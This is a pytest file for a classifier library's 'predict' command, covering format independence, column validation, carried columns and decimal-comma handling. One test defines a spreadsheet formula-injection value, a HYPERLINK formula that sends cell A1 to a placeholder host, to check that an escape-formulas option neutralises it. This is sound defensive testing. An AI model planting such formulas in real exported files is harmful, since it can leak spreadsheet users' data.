"""The command ``predict``: the same answers however a table comes, and one sentence else."""

import datetime as dt
import gzip
import json
from decimal import Decimal
from functools import partial

import numpy as np
import pandas as pd
import pyarrow as pa
import pyarrow.ipc
import pyarrow.parquet as pq
import pytest
from sklearn.naive_bayes import GaussianNB

import vennforest
from report.reading import has_in_turn, named_in
from support.arrow import TEXT_TYPES
from support.commands import refused, run
from vennforest.persistence import read_header
from vennforest.tables.open import TableFile
from vennforest.tables.write import table_as_text

TARGET = "what happened"
CLASSES = ["1e3", "lower", "no way", "yes "]
POINTS = [f"p({c})" for c in CLASSES]
ENDS = ("lower", "upper", "low95", "high95")
COLUMNS = ["label", "probability", *ENDS]
COLUMNS += [f"{what}({c})" for c in CLASSES for what in ("p", *ENDS)]

# By default pandas 2 reads numbers to within a unit in the last place.
read_csv = partial(pd.read_csv, float_precision="round_trip")


def make_table(n, seed=0):
    rng = np.random.default_rng(seed)
    day = pd.Timestamp("2015-01-01")
    frame = pd.DataFrame(
        {
            "id": [f"{i:05d}" for i in range(n)],
            "âge": rng.integers(18, 90, n).astype(str),
            "city": rng.choice(["Zürich", "東京", "New, York", 'say "hi"'], n),
            "company": [f"firm {i} Ltd" for i in rng.integers(0, 2500, n)],
            "joined": (day + pd.to_timedelta(rng.integers(0, 3000, n), "D")).strftime("%d/%m/%Y"),
            "seen": (day + pd.to_timedelta(rng.integers(0, 9**8, n), "s")).strftime("%Y-%m-%d %X"),
            "vip": rng.choice(["True", "False"], n),
            "const": "k",
            "empty": None,
            "target": rng.normal(size=n).astype(str),
            "code": rng.choice(["1", "02", "x3"], n),
            "lower": (rng.normal(size=n) * 1e6).round().astype(int).astype(str),
        }
    ).astype(object)
    for name in ("âge", "city", "joined", "target", "code", "vip"):
        frame.loc[rng.random(n) < 0.1, name] = None
    scale = frame["âge"].fillna("50").astype(float) / 20 + (frame["vip"] == "True") * 1.5
    scale = scale + rng.normal(size=n)
    frame[TARGET] = np.array(["no way", "1e3", "yes ", "lower"], dtype=object)[
        np.digitize(scale, [2.5, 3.5, 5])
    ]
    return frame


@pytest.fixture(scope="module")
def folder(tmp_path_factory):
    folder = tmp_path_factory.mktemp("tables")
    make_table(400).to_csv(folder / "train.csv", index=False)
    make_table(130, seed=1).drop(columns=TARGET).to_csv(folder / "new.csv", index=False)
    command = ["fit", folder / "train.csv", "--target", TARGET, "-o", folder / "m.skops"]
    assert run(*command, "--drop", "id", "--trees", 25, "--jobs", 1) == 0
    assert run("predict", folder / "m.skops", folder / "new.csv", "-o", folder / "p.parquet") == 0
    return folder


def predict(folder, output, *more, data="new.csv"):
    return "predict", folder / "m.skops", folder / data, "-o", output, *more


def test_what_is_written(folder):
    out = pd.read_parquet(folder / "p.parquet")
    assert list(out.columns) == COLUMNS and len(out) == 130
    p = out[POINTS].to_numpy()
    np.testing.assert_allclose(p.sum(axis=1), 1, atol=1e-12)
    assert (out["label"] == np.array(CLASSES)[p.argmax(axis=1)]).all()
    np.testing.assert_array_equal(out["probability"], p.max(axis=1))
    for j, c in enumerate(CLASSES):
        assert (out[f"lower({c})"] - p[:, j]).max() < 1e-15
        assert (p[:, j] - out[f"upper({c})"]).max() < 1e-15
        mine = out["label"] == c
        np.testing.assert_array_equal(out["upper"][mine], out[f"upper({c})"][mine])
    # Rows are divided by their sums last, which may move a value on a bound by a rounding.
    assert (out["lower"] - out["probability"]).max() < 1e-15
    assert (out["probability"] - out["upper"]).max() < 1e-15
    header = read_header(folder / "m.skops")
    assert header["target"] == TARGET and header["classes"] == CLASSES
    assert header["columns"] == {
        "âge": "number", "city": "text", "company": "text", "joined": "date", "seen": "date",
        "vip": "boolean", "const": "text", "empty": "empty", "target": "number", "code": "text",
        "lower": "number",
    }  # fmt: skip
    model = vennforest.load(folder / "m.skops")
    X = read_csv(folder / "new.csv")  # whatever pandas takes the columns for
    np.testing.assert_array_equal(model.predict_proba(X), p)
    bounds = model.predict_multiprobability(X[::-1])
    best = model.predict_proba(X[::-1]).argmax(axis=1)
    np.testing.assert_array_equal(bounds.lower[np.arange(130), best], out["lower"][::-1])


def test_what_is_written_of_each_class_can_be_chosen(folder, tmp_path, capsys):
    output = tmp_path / "o.parquet"
    command = predict(folder, output)
    assert run(*command, "--columns", "p, bounds") == 0
    plain, out = pd.read_parquet(output), pd.read_parquet(folder / "p.parquet")
    assert list(plain) == [name for name in COLUMNS if "95" not in name]
    pd.testing.assert_frame_equal(out[list(plain)], plain)
    model = vennforest.load(folder / "m.skops")
    known = model.predict_confidence(read_csv(folder / "new.csv"))
    for j, label in enumerate(model.classes_.tolist()):
        np.testing.assert_array_equal(out[f"low95({label})"], known.lower[:, j])
        np.testing.assert_array_equal(out[f"high95({label})"], known.upper[:, j])
    assert (out["low95"] <= out["probability"]).all()
    assert (out["high95"] >= out["probability"]).all()
    assert run(*command, "--columns", "confidence", "--level", "0.9") == 0
    wide, out = out, pd.read_parquet(output)
    assert list(out)[1:3] == ["low90", "high90"]
    assert (out["low90"] >= wide["low95"] - 1e-12).all()
    assert (out["high90"] <= wide["high95"] + 1e-12).all()
    wrong = {"--level": ("95", "level must lie between 0 and 1")}
    wrong |= {"--columns": ("p,width", "got 'width'")}
    for option, (value, message) in wrong.items():
        assert message in refused(capsys, *command, option, value)


def test_types_formats_and_batches_make_no_difference(folder, tmp_path, monkeypatch):
    monkeypatch.setattr("vennforest.commands.predict.ROWS_PREDICTED_AT_ONCE", 43)
    expected = pd.read_parquet(folder / "p.parquet")
    frame = read_csv(folder / "new.csv")
    frame["joined"] = pd.to_datetime(frame["joined"], format="%d/%m/%Y")
    frame["seen"] = pd.to_datetime(frame["seen"])
    frame["âge"] = frame["âge"].astype("Int64")
    frame["vip"] = frame["vip"].astype("boolean")
    frame[["city", "code", "const"]] = frame[["city", "code", "const"]].astype("category")
    frame["empty"] = frame["empty"].astype(object)
    frame = frame[frame.columns[::-1]]
    frame.to_parquet(tmp_path / "a.parquet", row_group_size=17)
    frame.to_feather(tmp_path / "b.arrow")
    text = read_csv(folder / "new.csv", dtype=str)
    text["target"] = text["target"].str.replace(".", ",")
    text.to_csv(tmp_path / "c.csv", sep=";", index=False, encoding="utf-8-sig")
    with gzip.open(tmp_path / "d.csv.gz", "wb") as out:
        out.write((folder / "new.csv").read_bytes())
    for name in ("a.parquet", "b.arrow", "c.csv", "d.csv.gz"):
        output = tmp_path / "out.csv"
        assert run("predict", folder / "m.skops", tmp_path / name, "-o", output) == 0, name
        read = read_csv(output, dtype={"label": str})
        for column in COLUMNS:
            np.testing.assert_array_equal(read[column], expected[column], err_msg=name)


def test_identifiers_or_all_columns_are_carried_along(folder, tmp_path, capsys):
    output = tmp_path / "o.parquet"
    frame = read_csv(folder / "new.csv", dtype=str).rename(columns={"lower": "LOWER"})
    frame.assign(lower="1").to_csv(tmp_path / "n.csv", index=False)
    command = ("predict", folder / "m.skops", tmp_path / "n.csv", "-o", output, "--keep")
    assert named_in(refused(capsys, *command)) == {"lower", "--id"}
    assert run(*predict(folder, output, "--id", "id", "--id", "city")) == 0
    assert list(pd.read_parquet(output).columns) == ["id", "city", *COLUMNS]
    capsys.readouterr()
    command = ("--columns", "confidence", "--keep", "--id", "city")  # no column is called lower
    assert run(*predict(folder, output, *command)) == 0
    out, err = capsys.readouterr()
    assert out == "" and err.startswith("Wrote ") and err.count("\n") == 1
    answers, new = pd.read_parquet(output), read_csv(folder / "new.csv", dtype=str)
    names = ["city", *(name for name in new if name != "city")]
    assert list(answers)[: len(names)] == names
    pd.testing.assert_frame_equal(answers[names], new[names], check_dtype=False)


@pytest.mark.parametrize("suffix", ["csv", "parquet"])
def test_no_rows_give_no_rows(folder, tmp_path, suffix, capsys):
    source, output = tmp_path / f"none.{suffix}", tmp_path / f"out.{suffix}"
    frame = read_csv(folder / "new.csv").head(0)
    (frame.to_csv if suffix == "csv" else frame.to_parquet)(source)
    capsys.readouterr()
    assert run("predict", folder / "m.skops", source, "-o", output, "--id", "id", "--json") == 0
    said = capsys.readouterr()
    summary = json.loads(said.out)
    assert (
        said.err == "" and summary["n_rows"] == 0 and summary["output_columns"] == ["id", *COLUMNS]
    )
    out = (pd.read_csv if suffix == "csv" else pd.read_parquet)(output)
    assert list(out.columns) == ["id", *COLUMNS] and len(out) == 0


def test_columns_missing_or_retyped_are_named(folder, tmp_path, capsys):
    frame = read_csv(folder / "new.csv", dtype=str)

    def message(table):
        table.to_csv(tmp_path / "bad.csv", index=False)
        command = ("predict", folder / "m.skops", tmp_path / "bad.csv", "-o", tmp_path / "o.csv")
        return refused(capsys, *command)

    assert message(frame.drop(columns=["âge", "vip"])).startswith(
        "the table lacks the columns 'âge', 'vip'"
    )
    for column, cell in [("âge", "old"), ("vip", "maybe"), ("joined", "2020-01-31")]:
        wrong = frame.copy()
        wrong.loc[117, column] = cell
        said = message(wrong)
        assert named_in(said) == {column, cell} and has_in_turn(said, [118])
    wrong = frame.copy()
    wrong.loc[3, "lower"] = "1e400"
    assert "'lower' must contain numbers up to 3.4e+38, got inf in row 4" in message(wrong)


def test_bad_files_and_outputs(folder, tmp_path, capsys):
    model, new, out = folder / "m.skops", folder / "new.csv", tmp_path / "o.csv"
    cut = tmp_path / "cut.skops"
    cut.write_bytes(model.read_bytes()[:-2000])
    for arguments, said in [
        ((tmp_path / "none.skops", new, "-o", out), "none.skops: No such file or directory"),
        ((cut, new, "-o", out), "is damaged or was cut short"),
        ((new, new, "-o", out), "is not a model file"),
        ((model, tmp_path / "none.csv", "-o", out), "there is no file"),
        ((model, new, "-o", tmp_path / "o.xlsx"), "must end in .csv or .parquet"),
        ((model, new, "-o", tmp_path / "no" / "o.csv"), "there is no folder"),
        ((model, new, "-o", new), "must not be written to the table itself"),
        ((model, new, "-o", out, "--id", "idd"), "did you mean 'id'?"),
    ]:
        assert said in refused(capsys, "predict", *arguments), arguments
    assert list(tmp_path.iterdir()) == [cut]


def test_models_saved_in_python(tmp_path, capsys):
    rng = np.random.default_rng(0)
    X = pd.DataFrame(rng.normal(size=(120, 3)), columns=["a", "b", "c"])
    y = (X["a"] + rng.normal(size=120) > 0).to_numpy()
    X.to_csv(tmp_path / "n.csv", index=False)
    model, output = tmp_path / "m.skops", tmp_path / "o.parquet"
    for table, labels in ((X, y), (X.to_numpy(), np.where(y, 3.0, 2.0))):
        fitted = vennforest.CalibratedClassifier(GaussianNB(), cv=2).fit(table, labels)
        vennforest.save(fitted, model)
        assert run("predict", model, tmp_path / "n.csv", "-o", output) == 0
        out = pd.read_parquet(output)
        np.testing.assert_array_equal(out["label"], fitted.predict(table))
        second = f"p({fitted.classes_[1]})"
        np.testing.assert_array_equal(out[second], fitted.predict_proba(table)[:, 1])
    command = ("predict", model, tmp_path / "n.csv", "-o", output)
    vennforest.save(vennforest.VennAbers().fit([0.1, 0.9], [0, 1]), model)
    message = "must contain a CalibratedClassifier, got a VennAbers"
    assert message in refused(capsys, *command)


def test_a_table_is_read_predicted_and_written_in_parts(folder, tmp_path, monkeypatch):
    """So memory does not grow with the file, but for what Arrow reads ahead."""
    batches, n_read, n_read_when_writing = TableFile.batches, 0, []

    def counted(*arguments):
        nonlocal n_read
        for batch in batches(*arguments):
            n_read += 1
            yield batch

    def as_text(table, escape_formulas):
        n_read_when_writing.append(n_read)
        return table_as_text(table, escape_formulas)

    monkeypatch.setattr(TableFile, "batches", counted)
    monkeypatch.setattr("vennforest.commands.predict.table_as_text", as_text)
    read_csv(folder / "new.csv").to_parquet(tmp_path / "n.parquet", row_group_size=10)
    assert run(*predict(folder, tmp_path / "p.csv", data=tmp_path / "n.parquet")) == 0
    assert n_read_when_writing == list(range(14))  # the header, and each row group


# Spreadsheet programs take some text for formulas.
FORMULA = '=HYPERLINK("http://x/?"&A1,"y")'


def test_formulas_are_escaped_only_where_that_is_asked_for(tmp_path):
    rng = np.random.default_rng(0)
    x = rng.normal(size=60)
    frame = pd.DataFrame({"x": x, "@id": [FORMULA, "-5", None, "plain"] * 15})
    frame["y"] = np.where(x + rng.normal(size=60) > 0, "=yes", "-no")
    frame.to_csv(tmp_path / "d.csv", index=False)
    frame.to_parquet(tmp_path / "d.parquet")
    table = pq.read_table(tmp_path / "d.parquet")
    view = table.set_column(1, "@id", table["@id"].cast(TEXT_TYPES[-1]))  # a third type of text
    pq.write_table(view, tmp_path / "view.parquet")
    fit = ["fit", tmp_path / "d.csv", "-t", "y", "--drop", "@id", "-o", tmp_path / "m.skops"]
    assert run(*fit, "--trees", 5, "--jobs", 1) == 0
    for data in ("d.csv", "d.parquet", "view.parquet"):
        command = ["predict", tmp_path / "m.skops", tmp_path / data, "--id", "@id", "-o"]
        assert run(*command, tmp_path / "p.csv") == 0
        unchanged = pd.read_csv(tmp_path / "p.csv", dtype=str)
        assert unchanged["@id"].iloc[:4].fillna("").tolist() == [FORMULA, "-5", "", "plain"]
        assert set(unchanged["label"]) <= {"=yes", "-no"}
        assert run(*command, tmp_path / "p.csv", "--escape-formulas") == 0
        escaped = pd.read_csv(tmp_path / "p.csv", dtype=str)
        assert escaped["'@id"].iloc[:4].fillna("").tolist() == ["'" + FORMULA, "-5", "", "plain"]
        assert set(escaped["label"]) <= {"'=yes", "'-no"}
        assert run(*command, tmp_path / "p.parquet") == 0
        plain = pd.read_parquet(tmp_path / "p.parquet")  # text as it is
        assert plain["@id"].iloc[0] == FORMULA
        assert escaped["label"].tolist() == ["'" + label for label in plain["label"]]


NOT_IN_CSV = ("list", "struct", "lasts", "bytes")
"""Columns of `carried_table` that are refused in CSV."""


def carried_table(n):
    """Return a table of a score, a label and columns whose values no float or text type holds."""
    rng = np.random.default_rng(3)
    score = rng.random(n)
    rows = range(n)
    days = [dt.date(2024, 1, 1) + dt.timedelta(days=i) for i in rows]
    return pa.table({
        "s": score,
        "y": np.where(rng.random(n) < score, "-", "+"),
        "decimal": pa.array([Decimal(9007199254740993 + i) for i in rows], pa.decimal128(38, 0)),
        "cents": pa.array([Decimal(i).scaleb(-2) for i in rows], pa.decimal128(20, 2)),
        "ns": pa.array([1704067200123456789 + i for i in rows], pa.timestamp("ns")),
        "zone": pa.array([1704067200123456 + i for i in rows], pa.timestamp("us", "Asia/Tokyo")),
        "day": pa.array(days),
        "list": pa.array([[i, None] for i in rows]),
        "struct": pa.array([{"a": i, "b": day} for i, day in zip(rows, days, strict=True)]),
        "dictionary": pa.array([f"-{i % 3} to 0" for i in rows]).dictionary_encode(),
        "big": pa.array([2**63 + i for i in rows], pa.uint64()),
        "float": pa.array([0.1 + i for i in rows]),
        "flag": pa.array([None if i == 2 else i % 2 == 0 for i in rows]),
        "lasts": pa.array([1500 + i for i in rows], pa.duration("ms")),
        "bytes": pa.array([b"\xff" if i else b"a" for i in rows]),
    })  # fmt: skip


def test_carried_columns_keep_type_and_value_in_parquet_and_every_digit_in_csv(tmp_path):
    table = carried_table(60)
    pq.write_table(table, tmp_path / "t.parquet")
    with pa.ipc.new_file(tmp_path / "t.arrow", table.schema) as writer:
        writer.write_table(table)
    calibrator = ("calibrate", tmp_path / "t.parquet", "-s", "s", "-t", "y")
    assert run(*calibrator, "-o", tmp_path / "c.json") == 0
    for name in ("t.parquet", "t.arrow"):
        command = ("apply", tmp_path / "c.json", tmp_path / name, "-o")
        assert run(*command, tmp_path / "o.parquet") == 0
        carried = pq.read_table(tmp_path / "o.parquet").select(table.column_names)
        assert carried.equals(table)
        for column in NOT_IN_CSV:
            assert run(*command, tmp_path / "o.csv", "--id", column) == 2
            assert not (tmp_path / "o.csv").exists()
        names = [n for name in table.column_names if name not in NOT_IN_CSV for n in ("--id", name)]
        assert run(*command, tmp_path / "o.csv", *names) == 0
        cells = pd.read_csv(tmp_path / "o.csv", dtype=str, keep_default_na=False).iloc[2]
        assert cells.to_dict() | {
            "decimal": "9007199254740995", "cents": "0.02", "day": "2024-01-03",
            "ns": "2024-01-01T00:00:00.123456791", "zone": "2024-01-01T09:00:00.123458+09:00",
            "big": str(2**63 + 2), "dictionary": "-2 to 0", "float": "2.1", "flag": "",
            "label": pq.read_table(tmp_path / "o.parquet")["label"][2].as_py(),
        } == cells.to_dict()  # fmt: skip
        flags = pd.read_csv(tmp_path / "o.csv", dtype=str)["flag"]
        assert flags[:2].tolist() == ["True", "False"]
        (tmp_path / "o.csv").unlink()


def test_carried_text_of_csv_is_that_of_the_file(tmp_path):
    rng = np.random.default_rng(4)
    cells = ["007", "1.0", "1", "TRUE", "true", " NA", "NULL", "1e3", "9007199254740993", "'x", ""]
    frame = pd.DataFrame({"s": rng.random(44), "y": ["0", "1"] * 22, "cell": cells * 4})
    frame.to_csv(tmp_path / "t.csv", index=False)
    assert run("calibrate", tmp_path / "t.csv", "-s", "s", "-t", "y", "-o", tmp_path / "c") == 0
    assert run("apply", tmp_path / "c", tmp_path / "t.csv", "-o", tmp_path / "o.csv") == 0
    written = pd.read_csv(tmp_path / "o.csv", dtype=str, keep_default_na=False)
    assert written["cell"].tolist() == cells * 4


@pytest.mark.parametrize("kind", ["csv", "parquet"])
def test_a_model_reads_the_decimal_commas_it_was_trained_on(tmp_path, monkeypatch, kind):
    monkeypatch.chdir(tmp_path)
    rng = np.random.default_rng(0)
    table = pa.table({
        "x": [f"{v:.2f}".replace(".", ",") for v in rng.normal(size=60)],
        "point": [f"{v:.2f}" for v in rng.normal(size=60)],
        "y": ["no", "yes"] * 30,
    })  # fmt: skip
    form = []
    if kind == "csv":
        table.to_pandas().to_csv("t", sep=";", index=False)
    else:
        pq.write_table(table, "t")
        form = ["--decimal", ","]
    fast = ["--estimator", "logistic", "--method", "platt"]
    assert run("fit", "t", "-t", "y", "-o", "m.skops", "--keep", "point", *fast, *form) == 0
    assert read_header("m.skops")["columns"] == {"x": "number", "point": "text"}
    assert run("predict", "m.skops", "t", "-o", "p.csv", *form) == 0


def test_a_decimal_sign_given_to_fit_is_that_of_later_files(tmp_path, monkeypatch):
    monkeypatch.chdir(tmp_path)
    rng = np.random.default_rng(0)
    table = pd.DataFrame({
        "x": [f"{v:.2f}" for v in rng.normal(size=60)],
        "size": [f"{v:.3f}".replace(".", ",") for v in rng.random(60)],
        "y": ["no", "yes"] * 30,
    })  # fmt: skip
    table.to_csv("t", sep=";", index=False)
    fast = ["--estimator", "logistic", "--method", "platt", "--keep", "size"]
    assert run("fit", "t", "-t", "y", "-o", "m.skops", "--decimal", ".", *fast) == 0
    assert read_header("m.skops")["columns"] == {"x": "number", "size": "text"}
    assert run("predict", "m.skops", "t", "-o", "p.csv") == 0
    assert run("check", "m.skops", "t", "-t", "y", "-o", "c.html", "--quiet") == 0


@pytest.mark.parametrize("command", ["predict", "check", "watch"])
def test_a_point_among_the_decimal_commas_of_a_model_is_refused(
    tmp_path, monkeypatch, capsys, command
):
    monkeypatch.chdir(tmp_path)
    rng = np.random.default_rng(0)
    x = [f"{v:.2f}".replace(".", ",") for v in rng.normal(size=60)]
    z = [f"{v:.1f}".replace(".", ",") for v in rng.normal(size=60)]
    table = pd.DataFrame({"x": x, "z": z, "y": ["no", "yes"] * 30})
    table.to_csv("t.csv", sep=";", index=False)
    fast = ["--estimator", "logistic", "--method", "platt", "--keep", "x", "--keep", "z"]
    assert run("fit", "t.csv", "-t", "y", "-o", "m.skops", *fast) == 0
    table.assign(x=table["x"].str.replace(",", ".")).to_csv("points.csv", sep=";", index=False)
    # Numbers that have their type are taken as they are.
    decimals = [Decimal(cell.replace(",", ".")) for cell in x]
    typed = pa.table({"x": pa.array(decimals), "z": z, "y": table["y"]})
    pq.write_table(typed, "typed.parquet")
    target = [] if command == "predict" else ["-t", "y"]
    if command != "watch":  # which refuses rows of training
        words = ["typed.parquet", "-o", f"{command}.csv", "--decimal", ",", *target]
        assert run(command, "m.skops", *words) == 0
    assert run(command, "m.skops", "points.csv", "-o", f"{command}.csv", *target) == 2
    assert "column 'x' must contain numbers" in capsys.readouterr().err
